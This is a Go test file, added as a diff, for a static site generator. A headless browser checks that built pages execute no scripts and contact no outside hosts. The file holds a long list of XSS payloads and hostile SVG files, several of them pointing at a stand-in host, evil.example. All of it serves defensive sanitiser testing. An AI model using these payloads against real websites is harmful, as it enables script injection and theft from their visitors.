@@ -1,0 +1,572 @@
+package generator_test
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"maps"
+	"mime"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os/exec"
+	"path"
+	"path/filepath"
+	"slices"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/cdp"
+	"github.com/chromedp/cdproto/log"
+	"github.com/chromedp/cdproto/network"
+	"github.com/chromedp/cdproto/page"
+	"github.com/chromedp/cdproto/runtime"
+	"github.com/chromedp/chromedp"
+
+	"headsup/generator"
+	"headsup/generator/content"
+	"headsup/generator/diag"
+)
+
+// browser is a tab of a real browser and what it has noticed.
+type browser struct {
+	ctx context.Context
+
+	mu      sync.Mutex
+	hosts   map[string]bool // that requests may go to
+	noticed []string
+}
+
+// openBrowser starts a browser for one test.
+func openBrowser(t *testing.T) *browser {
+	t.Helper()
+	options := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.NoSandbox, chromedp.DisableGPU)
+	for _, name := range []string{"headless-shell", "headless_shell", "chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "google-chrome-beta", "chrome"} {
+		if found, err := exec.LookPath(name); err == nil {
+			options = append(options, chromedp.ExecPath(found))
+			break
+		}
+	}
+	deadline, stop := context.WithTimeout(context.Background(), 4*time.Minute)
+	t.Cleanup(stop)
+	allocator, stopAllocator := chromedp.NewExecAllocator(deadline, options...)
+	t.Cleanup(stopAllocator)
+	ctx, stopBrowser := chromedp.NewContext(allocator)
+	t.Cleanup(stopBrowser)
+	b := &browser{ctx: ctx, hosts: map[string]bool{}}
+	if err := chromedp.Listen(ctx, b.notice); err != nil {
+		t.Fatalf("start the browser (make browser installs one): %v", err)
+	}
+	b.do(t, func(ctx context.Context, target *chromedp.Target) (chromedp.Void, error) {
+		for _, enable := range []func() error{
+			func() error { _, err := cdp.Call(ctx, target, network.Enable, network.EnableParams{}); return err },
+			func() error { _, err := cdp.Call(ctx, target, log.Enable, cdp.Empty{}); return err },
+			func() error { _, err := cdp.Call(ctx, target, page.Enable, page.EnableParams{}); return err },
+			func() error {
+				_, err := cdp.Call(ctx, target, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: canary})
+				return err
+			},
+		} {
+			if err := enable(); err != nil {
+				return chromedp.Void{}, err
+			}
+		}
+		return chromedp.Void{}, nil
+	})
+	return b
+}
+
+// canary is in every document before its own scripts: what hostile content
+// calls. Dialogs count as such a call and do not block.
+const canary = `
+window.canary = (x) => { console.error("the canary ran: " + x + " at " + document.URL); return 1; };
+for (const name of ["alert", "confirm", "prompt", "print", "open"]) window[name] = window.canary;
+`
+
+// notice keeps what must not happen.
+func (b *browser) notice(event any) {
+	say := ""
+	switch e := event.(type) {
+	case *page.EventJavascriptDialogOpening:
+		say = "a dialog: " + e.Message
+	case *runtime.EventExceptionThrown:
+		say = "an exception: " + e.ExceptionDetails.Text
+		if e.ExceptionDetails.Exception != nil {
+			say += " " + e.ExceptionDetails.Exception.Description
+		}
+	case *runtime.EventConsoleAPICalled:
+		for _, a := range e.Args {
+			say += " " + string(a.Value)
+		}
+		say = "on the console:" + say
+	case *log.EventEntryAdded:
+		say = "in the log: " + e.Entry.Text + " " + e.Entry.URL
+	case *network.EventRequestWillBeSent:
+		u, err := url.Parse(e.Request.URL)
+		b.mu.Lock()
+		known := err == nil && (b.hosts[u.Host] || u.Scheme == "data" || u.String() == "about:blank")
+		b.mu.Unlock()
+		if !known {
+			say = "a request to " + e.Request.URL
+		}
+	}
+	if say != "" {
+		b.mu.Lock()
+		b.noticed = append(b.noticed, say)
+		b.mu.Unlock()
+	}
+}
+
+func (b *browser) do(t *testing.T, actions ...chromedp.Action[chromedp.Void]) {
+	t.Helper()
+	if err := chromedp.Do(b.ctx, actions...); err != nil {
+		t.Fatalf("drive the browser: %v (noticed %q)", err, b.taken())
+	}
+}
+
+// taken returns what was noticed since it was called last.
+func (b *browser) taken() []string {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	list := b.noticed
+	b.noticed = nil
+	return list
+}
+
+// provoke does to a document what its readers could do: it opens what is folded,
+// fires the events that handlers wait for, and looks where links lead. It
+// returns what is wrong, and gives pictures the time to fail.
+const provoke = `(async () => {
+  const wrong = [];
+  const schemes = ["http:", "https:", "mailto:", "tel:", "sms:"];
+  const kinds = ["click", "mouseover", "mouseenter", "focus", "focusin", "blur", "load", "error", "toggle", "animationstart",
+    "animationend", "transitionend", "pointerover", "keydown", "wheel", "begin", "beforetoggle", "scroll", "input", "copy"];
+  document.addEventListener("click", (e) => e.preventDefault(), true);
+  for (const node of document.querySelectorAll("*")) {
+    for (const name of node.getAttributeNames()) {
+      if (/^on|^style$|^srcdoc$|^formaction$|^ping$|^srcset$|^background$/i.test(name)) wrong.push(node.localName + " " + name);
+    }
+    for (const name of ["href", "src", "poster", "data", "action", "cite"]) {
+      if (!node.hasAttribute(name)) continue;
+      const value = String(node.getAttribute(name));
+      let scheme = "";
+      try { scheme = new URL(value, document.baseURI).protocol; } catch { scheme = "no URL: " + value; }
+      if (!schemes.includes(scheme)) wrong.push(node.localName + " " + name + "=" + value);
+    }
+    if (["IFRAME", "OBJECT", "EMBED", "BASE", "FORM", "STYLE", "TEMPLATE", "FRAME", "APPLET", "PORTAL"].includes(node.nodeName.toUpperCase())) wrong.push(node.localName);
+    if (node.nodeName === "DETAILS") node.open = true;
+    for (const kind of kinds) node.dispatchEvent(new Event(kind));
+  }
+  await new Promise((done) => setTimeout(done, 20));
+  await Promise.race([
+    Promise.all([...document.images].filter((i) => i.loading !== "lazy" && !i.complete).map((i) => new Promise((done) => { i.onload = i.onerror = done; }))),
+    new Promise((done) => setTimeout(done, 1000)),
+  ]);
+  return wrong;
+})()`
+
+// visit opens a page and reports what goes wrong there.
+func (b *browser) visit(t *testing.T, address string) {
+	t.Helper()
+	b.do(t, chromedp.Navigate(address))
+	b.judge(t, address)
+}
+
+func (b *browser) judge(t *testing.T, what string) {
+	t.Helper()
+	wrong, err := chromedp.Run(b.ctx, chromedp.Evaluate[[]string](provoke, chromedp.EvalAwaitPromise))
+	if err != nil {
+		t.Fatalf("%s: %v (noticed %q)", what, err, b.taken())
+	}
+	for _, w := range append(wrong, b.taken()...) {
+		t.Errorf("%s: %s", what, w)
+	}
+}
+
+// headerRule is one rule of _headers.
+type headerRule struct {
+	pattern []string
+	headers [][2]string
+}
+
+// readHeaders reads a _headers file as hosts do.
+func readHeaders(t *testing.T, text string) []headerRule {
+	t.Helper()
+	var rules []headerRule
+	for line := range strings.Lines(text) {
+		line = strings.TrimRight(line, "\n")
+		switch {
+		case line == "" || line[0] == '#':
+		case line[0] == '/':
+			rules = append(rules, headerRule{pattern: strings.Split(line, "/")})
+		default:
+			name, value, ok := strings.Cut(strings.TrimSpace(line), ": ")
+			if !ok || len(rules) == 0 {
+				t.Fatalf("_headers has the line %q", line)
+			}
+			last := &rules[len(rules)-1]
+			last.headers = append(last.headers, [2]string{name, value})
+		}
+	}
+	return rules
+}
+
+func (r *headerRule) matches(address string) bool {
+	parts := strings.Split(address, "/")
+	for i, want := range r.pattern {
+		switch {
+		case want == "*":
+			return i < len(parts)
+		case i >= len(parts), want != parts[i] && !strings.HasPrefix(want, ":"):
+			return false
+		}
+	}
+	return len(parts) == len(r.pattern)
+}
+
+// host serves a built folder with the headers of its own _headers. On a lenient
+// host the policy only reports, so that scripts run which slipped through.
+type host struct {
+	*httptest.Server
+	files map[string]string
+	rules []headerRule
+	soft  bool
+}
+
+// newHost starts a server without files, as its address is part of the build.
+func newHost(t *testing.T, b *browser) *host {
+	t.Helper()
+	h := &host{}
+	h.Server = httptest.NewServer(h)
+	t.Cleanup(h.Close)
+	b.hosts[strings.TrimPrefix(h.URL, "http://")] = true
+	return h
+}
+
+func (h *host) show(t *testing.T, dir string) {
+	t.Helper()
+	h.files = served(t, dir)
+	h.rules = readHeaders(t, h.files["_headers"])
+	for _, name := range []string{"_headers", "_redirects"} {
+		delete(h.files, name)
+	}
+}
+
+func (h *host) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	for _, rule := range h.rules {
+		if !rule.matches(r.URL.EscapedPath()) {
+			continue
+		}
+		for _, header := range rule.headers {
+			name := header[0]
+			if h.soft && name == "Content-Security-Policy" {
+				name = "Content-Security-Policy-Report-Only"
+			}
+			w.Header().Set(name, header[1])
+		}
+	}
+	name := strings.TrimPrefix(r.URL.Path, "/")
+	if name == "" || strings.HasSuffix(name, "/") {
+		name += "index.html"
+	}
+	text, ok := h.files[name]
+	if w.Header().Get("Content-Type") == "" {
+		w.Header().Set("Content-Type", mime.TypeByExtension(path.Ext(name)))
+	}
+	if !ok {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		w.WriteHeader(http.StatusNotFound)
+		text = h.files["404.html"]
+	}
+	_, _ = w.Write([]byte(text))
+}
+
+// pages returns the addresses of all pages but the lists of tags, which are
+// like those of products, in order.
+func (h *host) pages() []string {
+	var list []string
+	for _, name := range slices.Sorted(maps.Keys(h.files)) {
+		if strings.HasSuffix(name, ".html") && !strings.Contains(h.files[name], `http-equiv="refresh"`) && name != "404.html" && !strings.HasPrefix(name, "tags/") {
+			list = append(list, h.URL+"/"+(&url.URL{Path: strings.TrimSuffix(name, "index.html")}).EscapedPath())
+		}
+	}
+	return list
+}
+
+// TestOwnSiteInBrowser opens every page of headsup's own content under the
+// headers that it asks for: nothing is refused and nothing goes elsewhere.
+func TestOwnSiteInBrowser(t *testing.T) {
+	b := openBrowser(t)
+	h := newHost(t, b)
+	out := filepath.Join(t.TempDir(), "out")
+	mustBuild(t, generator.Options{Content: filepath.Join("..", "content"), Out: out, NoCache: true, BaseURL: h.URL + "/"})
+	h.show(t, out)
+	pages := h.pages()
+	if len(pages) < 30 {
+		t.Fatalf("only %d pages", len(pages))
+	}
+	for _, address := range pages {
+		b.visit(t, address)
+	}
+}
+
+// payloads are what people try; each calls the canary or another host when it
+// works.
+var payloads = []string{
+	`<script>canary(1)</script>`,
+	`<ScRiPt src="//evil.example/x.js"></sCrIpT>`,
+	`<scr<script>ipt>canary(1)</scr</script>ipt>`,
+	`<script/x>canary(1)</script >`,
+	`<img src=x onerror=canary(1)>`,
+	`<img src="x" onerror="canary(1)"`,
+	`<img/src="x"/onerror=canary(1)//`,
+	"<img src=`x` onerror=canary(1)>",
+	`<img srcset="https://evil.example/x.png 1x" src=x>`,
+	`<svg onload=canary(1)>`,
+	`<svg><script>canary(1)</script></svg>`,
+	`<svg><animate onbegin=canary(1) attributeName=x dur=1s>`,
+	`<svg><a xlink:href="javascript:canary(1)"><text y=20>x</text></a></svg>`,
+	`<svg><style><img src=x onerror=canary(1)></style></svg>`,
+	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary(1)&gt;">`,
+	`<math><a xlink:href="javascript:canary(1)">x</a></math>`,
+	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary(1)>`,
+	`<noscript><p title="</noscript><img src=x onerror=canary(1)>">`,
+	`<textarea><p title="</textarea><img src=x onerror=canary(1)>">`,
+	`<title><p title="</title><img src=x onerror=canary(1)>">`,
+	`<xmp><p title="</xmp><img src=x onerror=canary(1)>">`,
+	`<style>@import "//evil.example/x.css"; * { background: url(//evil.example/x) }</style>`,
+	`<p style="background:url(https://evil.example/x)">styled</p>`,
+	`<link rel="stylesheet" href="//evil.example/x.css"><link rel=prefetch href="//evil.example/x">`,
+	`<base href="//evil.example/">`,
+	`<meta http-equiv="refresh" content="0; url=//evil.example/">`,
+	`<iframe src="javascript:canary(1)"></iframe>`,
+	`<iframe srcdoc="<script>parent.canary(1)</script>"></iframe>`,
+	`<object data="data:text/html,<script>parent.canary(1)</script>"></object>`,
+	`<embed src="javascript:canary(1)">`,
+	`<form action="javascript:canary(1)"><button formaction="javascript:canary(1)">x</button><input autofocus onfocus=canary(1)></form>`,
+	`<input type="checkbox" onclick="canary(1)" autofocus onfocus="canary(1)">`,
+	`<details open ontoggle=canary(1)><summary onclick=canary(1)>x</summary></details>`,
+	`<video poster="javascript:canary(1)" src=x onerror=canary(1)><source onerror="canary(1)" src="data:video/mp4,x"></video>`,
+	`<audio src="javascript:canary(1)" onerror=canary(1) autoplay></audio>`,
+	`<a href="javascript:canary(1)">link</a>`,
+	`<a href=" &#1; java&#x0A;script:canary(1)">link</a>`,
+	`<a href="jav&Tab;ascript&colon;canary(1)">link</a>`,
+	`<a href="data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=">link</a>`,
+	`<a href="vbscript:canary(1)" ping="//evil.example/" target=x>link</a>`,
+	`[link](javascript:canary(1))`,
+	`[link](JaVaScRiPt:canary(1))`,
+	`[link](<java` + "\t" + `script:canary(1)>)`,
+	`[link](java&#115;cript:canary(1))`,
+	`[link](javascript&colon;canary(1))`,
+	`[link](\javascript:canary(1))`,
+	`[link](data:text/html,<script>canary(1)</script>)`,
+	`[link](//evil.example "\"onmouseover=canary(1) x=\"")`,
+	`[link](https://example.com/"onmouseover="canary(1))`,
+	`<javascript:canary(1)>`,
+	`![x](javascript:canary(1))`,
+	`![x"onerror="canary(1)](x "\"onerror=canary(1) \"")`,
+	`![x](data:image/svg+xml,<svg/onload=canary(1)>)`,
+	`[ref][a]` + "\n\n" + `[a]: javascript:canary(1) "x"`,
+	`{onclick="canary(1)" style="background:url(//evil.example)" #x"onx=canary(1)}`,
+	`"><img src=x onerror=canary(1)>`,
+	`'"></title></script></style></textarea></template><svg/onload=canary(1)>`,
+	`--><img src=x onerror=canary(1)><!--`,
+	`]]><img src=x onerror=canary(1)>`,
+	`{{canary(1)}} ${canary(1)} <%= canary(1) %> #{canary(1)}`,
+	`&lt;img src=x onerror=canary(1)&gt;`,
+	`&amp;lt;img src=x onerror=canary(1)&amp;gt;`,
+	"\u2028<img src=x onerror=canary(1)>\u202e",
+	`<a name=localStorage id=document><img id=body name=body><img name=querySelector id=cookie></a>`,
+	`<div id="hu-main" class="outline skip top"><details class="outline"><a href="#%E0%A4%A">x</a></details></div>`,
+	`<p class="x" onclick="canary(1)" onpointerover="canary(1)">hover</p>`,
+	`<select><option onclick=canary(1)><marquee onstart=canary(1)>x</marquee></select>`,
+	`<table background="//evil.example/x"><td background="javascript:canary(1)">x</td></table>`,
+	`<isindex type=image src=1 onerror=canary(1)><image src=1 onerror=canary(1)>`,
+	`<template><script>canary(1)</script></template>`,
+	`<dialog open oncancel=canary(1)><button popovertarget=x onclick=canary(1)>x</button></dialog>`,
+	`<blockquote cite="javascript:canary(1)"><q cite="javascript:canary(1)">x</q></blockquote>`,
+	`<!--[if gte IE 4]><script>canary(1)</script><![endif]-->`,
+	`<?xml-stylesheet href="javascript:canary(1)"?><![CDATA[<script>canary(1)</script>]]>`,
+	`<a href="https://x.example/` + "\n" + `onmouseover=canary(1)">x</a>`,
+	`<abbr title="x" onmouseover=canary(1)>x</abbr><time datetime="1" onclick=canary(1)>x</time>`,
+}
+
+// hostilePage puts a payload into each field and each kind of place in a body.
+func hostilePage(i int, payload string) string {
+	line := strconv.Quote(strings.NewReplacer("\n", " ", "\t", " ").Replace(payload))
+	var b strings.Builder
+	b.WriteString("---\nvisibility: public\ndate: 2026-01-01\naudiences: [sales]\nproducts: [billing]\nplans: [team]\n")
+	for _, field := range []string{"title", "summary", "version", "feature_flag", "docs_url", "image", "owner", "unknown"} {
+		fmt.Fprintf(&b, "%s: %s\n", field, line)
+	}
+	fmt.Fprintf(&b, "tags: [%[1]s, shared]\nquestions: [%[1]s]\nactions: {sales: %[1]s}\ncta: {label: %[1]s, url: %[1]s}\n", line)
+	fmt.Fprintf(&b, "aliases: [%[1]s]\n---\n", line)
+	one := strings.NewReplacer("\n", " ").Replace(payload)
+	fmt.Fprintf(&b, "%[1]s\n\nInline %[2]s text\n\n## %[2]s\n\n- %[2]s\n\n> %[2]s\n\n| %[2]s | b |\n|---|---|\n| %[2]s | c |\n\n", payload, one)
+	fmt.Fprintf(&b, "[%[1]s](https://example.com/) ![%[1]s](picture.png \"%[1]s\") `%[1]s`\n\n```go title=\"%[1]s\" {%[1]s}\n%[1]s\n```\n\n", one)
+	fmt.Fprintf(&b, "```%[1]s\n%[1]s\n```\n\nTerm %[1]s\n: %[1]s\n\nNote[^n%[2]d].\n\n[^n%[2]d]: %[1]s\n\n", one, i)
+	fmt.Fprintf(&b, ":::note[%[1]s]\n%[1]s\n:::\n\n> [!WARNING] %[1]s\n> %[1]s\n\n", one)
+	fmt.Fprintf(&b, "<details><summary>%[1]s</summary>\n\n%[1]s\n\n</details>\n\n<div title='%[1]s' id='%[1]s' class='%[1]s'>\n%[1]s\n</div>\n\n", one)
+	fmt.Fprintf(&b, "Paragraph {%[1]s}\n\n### Heading {#%[1]s .%[1]s}\n\n%[1]s", one)
+	return b.String()
+}
+
+func hostileSite(t *testing.T) string {
+	t.Helper()
+	var checks []string
+	for _, r := range diag.Rules() {
+		if !r.Fixed {
+			checks = append(checks, r.ID+": warn")
+		}
+	}
+	const markup = `"'\"></title></script><img src=x onerror=canary(1)><svg/onload=canary(1)>"`
+	files := map[string]string{
+		"headsup.yaml": fmt.Sprintf("title: %[1]s\ndescription: %[1]s\nproducts: [{id: billing, title: %[1]s, description: %[1]s}]\naudiences: [{id: sales, title: %[1]s}]\nplans: [{id: team, title: %[1]s}]\nsurfaces: [{id: banner, title: %[1]s}]\nkinds: {release-note: {unknown: keep}}\nchecks: {%[2]s}\n",
+			markup, strings.Join(checks, ", ")),
+		"index.md":             "---\nvisibility: public\n---\n# " + payloads[4] + "\n\n" + strings.Join(payloads[:9], "\n\n"),
+		"releases/picture.png": "not really a picture",
+		"playbooks/p.md":       "---\ntitle: P\nvisibility: public\nwhen: " + markup + "\nduration: " + markup + "\n---\n1. " + payloads[4] + "\n2. b\n",
+		"snippets/s.md": "---\ntitle: S\nkey: a.b\nsurface: banner\nvisibility: public\ntrigger: " + markup + "\ngroup: " + markup +
+			"\nanchor: {path: /x, selector: " + markup + "}\ntarget: {plans: [team], roles: [" + markup + "]}\ncta: {label: " + markup + ", url: \"/x?javascript:canary(1)\"}\n---\n" + payloads[4] + "\n",
+		"launches/l.md":        "---\ntitle: " + markup + "\nvisibility: public\ndate: 2026-01-01\n---\n" + payloads[4] + "\n",
+		"odd <b>x&'/page.md":   "---\ntitle: Odd\nvisibility: public\n---\n![x](a*b:c.png) text\n",
+		"odd <b>x&'/a*b:c.png": "not really a picture",
+		"page.html":            "<script>canary(1)</script>",
+		"script.js":            "canary(1)",
+	}
+	for i, p := range payloads {
+		files[fmt.Sprintf("releases/p%03d.md", i)] = hostilePage(i, p)
+	}
+	for i, drawing := range drawings {
+		name := fmt.Sprintf("releases/drawing-%02d.svg", i)
+		files[name] = drawing
+		files["releases/p000.md"] += fmt.Sprintf("\n\n![x](drawing-%02d.svg)\n", i)
+	}
+	dir := filepath.Join(t.TempDir(), "content")
+	writeFiles(t, dir, files)
+	return dir
+}
+
+// drawings are SVG files that run something when they are opened by themselves.
+var drawings = []string{
+	`<svg xmlns="http://www.w3.org/2000/svg" onload="canary(1)"/>`,
+	`<svg xmlns="http://www.w3.org/2000/svg"><script>canary(1)</script></svg>`,
+	`<svg xmlns="http://www.w3.org/2000/svg"><x:script xmlns:x="http://www.w3.org/2000/svg">canary(1)</x:script></svg>`,
+	`<svg xmlns="http://www.w3.org/2000/svg"><script xmlns="http://www.w3.org/1999/xhtml">canary(1)</script></svg>`,
+	`<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="canary(1)"/></foreignObject></svg>`,
+	`<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onload" to="canary(1)"/><animate attributeName="x" dur="1s" onbegin="canary(1)"/></svg>`,
+	`<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>canary(1)</script>">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`,
+	`<?xml-stylesheet type="text/xsl" href="#x"?><svg xmlns="http://www.w3.org/2000/svg" id="x"/>`,
+	`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg' onload='canary(1)'/>#x"/></svg>`,
+	`<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(//evil.example/x.css); svg { background: url(//evil.example/x) }</style></svg>`,
+	`<svg xmlns="http://www.w3.org/2000/svg"><a href="java&#10;script:canary(1)"><rect width="9" height="9"/></a></svg>`,
+	`<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x.png"/></svg>`,
+	"\xff\xfe<\x00s\x00v\x00g\x00 \x00o\x00n\x00l\x00o\x00a\x00d\x00=\x00'\x00c\x00a\x00n\x00a\x00r\x00y\x00(\x001\x00)\x00'\x00/\x00>\x00",
+	`<html xmlns="http://www.w3.org/1999/xhtml"><script>canary(1)</script></html>`,
+	`<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>`,
+}
+
+// TestHostileContentRunsNothing builds a site of attacks and opens all of it,
+// and the feed's HTML in a page that has no policy at all.
+func TestHostileContentRunsNothing(t *testing.T) {
+	b := openBrowser(t)
+	h := newHost(t, b)
+	h.soft = true
+	dir := hostileSite(t)
+	for _, v := range []content.Visibility{content.Internal, content.Public} {
+		out := filepath.Join(t.TempDir(), string(v))
+		mustBuild(t, generator.Options{Content: dir, Out: out, NoCache: true, Visibility: v, BaseURL: h.URL + "/"})
+		h.show(t, out)
+		for name, text := range h.files {
+			switch path.Ext(name) {
+			case ".html", ".svg", ".json", ".xml", ".css", ".txt", ".png":
+			case ".js":
+				if !strings.HasPrefix(name, "assets/") {
+					t.Errorf("%s was published", name)
+				}
+			default:
+				t.Errorf("%s was published", name)
+			}
+			if strings.HasPrefix(path.Base(name), "drawing-") && name != "releases/drawing-14.svg" {
+				t.Errorf("%s was published: %s", name, text)
+			}
+		}
+		if _, ok := h.files["releases/drawing-14.svg"]; !ok {
+			t.Error("the harmless drawing was not published")
+		}
+		if v == content.Internal {
+			for _, address := range h.pages() {
+				b.visit(t, address)
+			}
+		}
+	}
+	items := feedItems(t, h.files)
+	if len(items) < len(payloads) {
+		t.Fatalf("the feed has %d items of %d pages", len(items), len(payloads))
+	}
+	blank := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		_, _ = w.Write([]byte("<!doctype html><title>Product</title><div id=a></div><div id=b></div>"))
+	}))
+	defer blank.Close()
+	b.hosts[strings.TrimPrefix(blank.URL, "http://")] = true
+	b.do(t, chromedp.Navigate(blank.URL))
+	// The test tests something: what is not cleaned runs here.
+	b.do(t, chromedp.Evaluate[chromedp.Void](`document.getElementById("a").innerHTML = "<img src=x onerror=canary(0)>"; undefined`), chromedp.Sleep(300*time.Millisecond))
+	if found := b.taken(); !slices.ContainsFunc(found, func(s string) bool { return strings.Contains(s, "the canary ran: 0") }) {
+		t.Fatalf("an attack that has to work was not noticed: %q", found)
+	}
+	for _, item := range items {
+		quoted, err := json.Marshal(item.HTML)
+		if err != nil {
+			t.Fatal(err)
+		}
+		// A second time from what the browser made of it, as editors and
+		// sanitisers do.
+		b.do(t, chromedp.Evaluate[chromedp.Void](fmt.Sprintf(
+			"{ const a = document.getElementById('a'), b = document.getElementById('b'); a.innerHTML = %s; b.innerHTML = a.innerHTML; undefined }", quoted)))
+		b.judge(t, "feed item "+item.ID)
+	}
+}
+
+type feedItem struct {
+	ID   string `json:"id"`
+	HTML string `json:"content_html"`
+}
+
+// feedItems reads all pages of the JSON feed.
+func feedItems(t *testing.T, files map[string]string) []feedItem {
+	t.Helper()
+	var items []feedItem
+	for name, text := range files {
+		if name != "feed.json" && (!strings.HasPrefix(name, "feed/") || path.Ext(name) != ".json") {
+			continue
+		}
+		var feed struct{ Items []feedItem }
+		if err := json.Unmarshal([]byte(text), &feed); err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		items = append(items, feed.Items...)
+	}
+	slices.SortFunc(items, func(a, b feedItem) int { return strings.Compare(a.ID, b.ID) })
+	return items
+}
+
+// TestHeaderRules holds that the tests' own server reads _headers as hosts do.
+func TestHeaderRules(t *testing.T) {
+	rules := readHeaders(t, "# note\n\n/*\n  A: 1\n\n/x/:a/y.json\n  B: 2\n")
+	for address, want := range map[string]int{"/": 1, "/x/": 1, "/x/z/y.json": 2, "/x/z/w/y.json": 1} {
+		n := 0
+		for i := range rules {
+			if rules[i].matches(address) {
+				n++
+			}
+		}
+		if n != want {
+			t.Errorf("%s matches %d rules, want %d", address, n, want)
+		}
+	}
+}
